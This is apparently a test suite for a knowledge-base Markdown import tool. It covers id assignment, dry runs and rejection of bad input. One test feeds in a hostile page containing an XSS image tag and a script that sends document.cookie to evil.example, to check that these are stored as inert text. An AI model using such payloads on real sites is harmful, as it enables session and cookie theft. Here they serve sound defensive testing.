// `npm run import` end to end on a copy of the fixture corpus: drafts written with fresh ids and
// passing `npm run check`; --dry-run writes nothing; bad input of any kind is named and nothing at
// all is written, even when other files in the same run were fine.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { copyFixtureCorpus, removeDir } from '../helpers/fixture-corpus.ts';

const root = fileURLToPath(new URL('../../', import.meta.url));
const SAMPLE = fileURLToPath(new URL('../fixtures/import/bkdocs-zh-5.1-nodeman-faq.md', import.meta.url));
let scratch: string;
before(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'kb-import-input-'));
});
after(() => removeDir(scratch));

function run(script: string, content: string, ...args: string[]) {
  const r = spawnSync(process.execPath, [join(root, 'tools', script), ...args], { cwd: root, env: { ...process.env, KB_CONTENT_DIR: content }, encoding: 'utf8', timeout: 60_000 });
  return { status: r.status, out: `${r.stdout}\n${r.stderr}` };
}
const entryFiles = async (content: string) => (await Promise.all(['zh', 'en'].map(async (l) => (await readdir(join(content, 'entries', l)).catch(() => [])).map((f) => `${l}/${f}`)))).flat().sort();
async function input(name: string, text: string | Uint8Array): Promise<string> {
  const file = join(scratch, name);
  await writeFile(file, text);
  return file;
}

test('imports a page: one draft per question, fresh ids, and `npm run check` passes', async () => {
  const content = await copyFixtureCorpus();
  try {
    const before = await entryFiles(content);
    const r = run('import.ts', content, SAMPLE);
    assert.equal(r.status, 0, r.out);
    const added = (await entryFiles(content)).filter((f) => !before.includes(f));
    assert.equal(added.length, 16, r.out);
    const texts = await Promise.all(added.map((f) => readFile(join(content, 'entries', f), 'utf8')));
    const ids = texts.map((t) => /^id: (PAAS-\d+)$/m.exec(t)![1]).sort();
    assert.equal(ids[0], 'PAAS-903', 'ids continue after the highest used (PAAS-902)');
    assert.ok(texts.every((t) => /^status: draft$/m.test(t) && /^review_notes:$/m.test(t)));
    assert.match(r.out, /PAAS-903 {2}部署的时候报 Unknown column/);
    assert.match(r.out, /16 drafts, \d+ signatures, \d+ causes; 100 non-blank lines/);
    const check = run('check-content.ts', content);
    assert.equal(check.status, 0, check.out);

    // A second import of the same page gets ids after those, and slugs of its own.
    const again = run('import.ts', content, SAMPLE);
    assert.equal(again.status, 0, again.out);
    assert.match(again.out, /PAAS-919 {2}部署的时候报 Unknown column/);
    assert.equal((await entryFiles(content)).length, before.length + 32);
  } finally {
    await removeDir(content);
  }
});

test('a retired id is never given again: new ids go after it', async () => {
  const content = await copyFixtureCorpus();
  try {
    await writeFile(join(content, 'retired-ids.json'), JSON.stringify({ retired: ['PAAS-960'] }));
    const r = run('import.ts', content, '--dry-run', SAMPLE);
    assert.equal(r.status, 0, r.out);
    assert.match(r.out, /PAAS-961 {2}部署的时候报 Unknown column/);
  } finally {
    await removeDir(content);
  }
});

test('--dry-run reports and writes nothing', async () => {
  const content = await copyFixtureCorpus();
  try {
    const before = await entryFiles(content);
    const r = run('import.ts', content, '--dry-run', SAMPLE);
    assert.equal(r.status, 0, r.out);
    assert.match(r.out, /would write/);
    assert.deepEqual(await entryFiles(content), before);
  } finally {
    await removeDir(content);
  }
});

test('bad input is named, and nothing is written even for the good file in the same run', async () => {
  const content = await copyFixtureCorpus();
  try {
    const before = await entryFiles(content);
    const cases: [string, string | Uint8Array, RegExp][] = [
      ['image.md', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 1]), /image\.md: not a text file/],
      ['long.md', `## Q\n\n${'a'.repeat(1024 * 1024)}\n`, /long\.md: line 3 is 1,048,576 characters long/],
      ['page.md', '<!DOCTYPE html><html><body><h2>Q</h2></body></html>', /page\.md: an HTML page, not Markdown/],
      ['notes.md', 'Just a paragraph of notes.\n\nAnother one.\n', /notes\.md: no questions found/],
    ];
    for (const [name, text, message] of cases) {
      const r = run('import.ts', content, SAMPLE, await input(name, text));
      assert.equal(r.status, 1, `${name}: ${r.out}`);
      assert.match(r.out, message);
      assert.match(r.out, /Nothing imported/);
    }
    assert.match(run('import.ts', content, join(scratch, 'missing.md')).out, /missing\.md: no such file/);
    assert.match(run('import.ts', content, '--component', 'gse', SAMPLE).out, /--component gse: use one of/);
    assert.match(run('import.ts', content, '--lang', 'fr', SAMPLE).out, /--lang fr: use one of zh, en/);
    assert.deepEqual(await entryFiles(content), before);
  } finally {
    await removeDir(content);
  }
});

test('HTML and script in a page are written as text, never as markup', async () => {
  const content = await copyFixtureCorpus();
  try {
    const page = await input('hostile.md', '## 页面报错 <img src=x onerror=alert(1)>\n\n点击按钮后页面报错。\n\n<script>fetch("http://evil.example/"+document.cookie)</script>\n\n原因: 服务没有启动，请用 `systemctl status x` 检查后再启动服务。\n');
    const r = run('import.ts', content, '--lang', 'zh', '--component', 'paas', page);
    assert.equal(r.status, 0, r.out);
    const file = (await entryFiles(content)).find((f) => !f.includes('agent-port') && !f.includes('check-health'))!;
    const text = await readFile(join(content, 'entries', file), 'utf8');
    const body = text.split(/^---$/m)[2]!;
    assert.match(body, /```text\n<script>fetch\("http:\/\/evil\.example\/"\+document\.cookie\)<\/script>\n```/);
    assert.match(text, /^component: paas$/m);
    assert.equal(run('check-content.ts', content).status, 0);
  } finally {
    await removeDir(content);
  }
});
